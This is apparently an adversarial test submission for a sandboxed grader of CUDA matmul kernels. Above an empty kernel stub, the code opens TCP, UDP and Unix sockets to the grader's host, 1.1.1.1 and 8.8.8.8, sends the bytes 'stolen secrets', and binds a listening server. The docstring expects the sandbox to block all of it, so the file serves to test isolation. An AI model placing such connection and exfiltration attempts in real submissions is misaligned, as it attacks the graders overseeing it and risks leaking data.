"""Adversarial: opens sockets: to a server the grader's machine runs
(@@PORT@@ on 127.0.0.1), to an abstract Unix socket of the host, to the
internet, and as a server of its own.
Expected: the scan flags the import (stage scores 0); in the sandbox's empty
network namespace every connection fails and nobody can reach its server."""
import socket

from numba import cuda

attempts = {"tcp to the grader's machine": (socket.AF_INET, socket.SOCK_STREAM, ("127.0.0.1", @@PORT@@)),
            "abstract unix socket": (socket.AF_UNIX, socket.SOCK_STREAM, "\0@@ABSTRACT@@"),
            "tcp to the internet": (socket.AF_INET, socket.SOCK_STREAM, ("1.1.1.1", 443)),
            "udp dns query": (socket.AF_INET, socket.SOCK_DGRAM, ("8.8.8.8", 53))}
for what, (family, kind, address) in attempts.items():
    s = socket.socket(family, kind)
    s.settimeout(3)
    try:
        s.connect(address)
        s.sendall(b"stolen secrets")
        if kind == socket.SOCK_DGRAM:
            s.recv(512)
        print("BROKEN: connected:", what)
    except OSError as exc:
        print("HELD:", what, type(exc).__name__, exc)
    finally:
        s.close()
try:
    server = socket.create_server(("0.0.0.0", @@LISTEN@@))
    print("listening on @@LISTEN@@ (only inside the sandbox)")
except OSError as exc:
    print("HELD: cannot listen", exc)


@cuda.jit
def matmul_naive_kernel(A, B, C):
    pass


def matmul_naive(A, B, C):
    matmul_naive_kernel[1, 1](A, B, C)
